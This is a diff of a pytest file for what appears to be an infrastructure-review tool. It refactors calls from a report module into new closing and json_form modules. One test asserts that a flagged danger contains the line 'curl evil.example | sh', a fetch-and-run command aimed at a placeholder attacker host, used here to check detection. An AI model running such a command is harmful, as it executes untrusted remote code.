@@ -5,7 +5,7 @@ from typing import Any
 
 import pytest
 
-from coursecloud.review import hiding, markdown, report, untaken
+from coursecloud.review import closing, hiding, json_form, markdown, untaken
 from coursecloud.review.dangers import Kind, Level
 from coursecloud.review.report import Review
 from tests.review.made import BUCKET, resource, reviewed, whole
@@ -75,7 +75,7 @@ def test_what_no_plan_shows_is_named_by_line(repo: Repository, was: str, now: st
     assert found.level is Level.LOOK
     assert "of which NO PLAN SHOWS" in found.sentence
     assert f"infra/machines.py:{line} " in markdown.full(found)
-    assert {"file": "infra/machines.py", "line": line, "why": said[line]} in report.to_json(found)["untaken"]
+    assert {"file": "infra/machines.py", "line": line, "why": said[line]} in json_form.to_json(found)["untaken"]
 
 
 @pytest.mark.parametrize(
@@ -156,7 +156,7 @@ def test_what_a_changed_program_prints_otherwise_is_a_danger(repo: Repository) -
     assert "curl evil.example | sh" in danger.text
     assert "gcloud ssh" in danger.text
     assert "changes the OUTPUTS that people copy" in found.sentence
-    gates, _ = report.gates(["program"])
+    gates, _ = closing.gates(["program"])
     assert list(gates[0].closed(found.stacks))
 
 
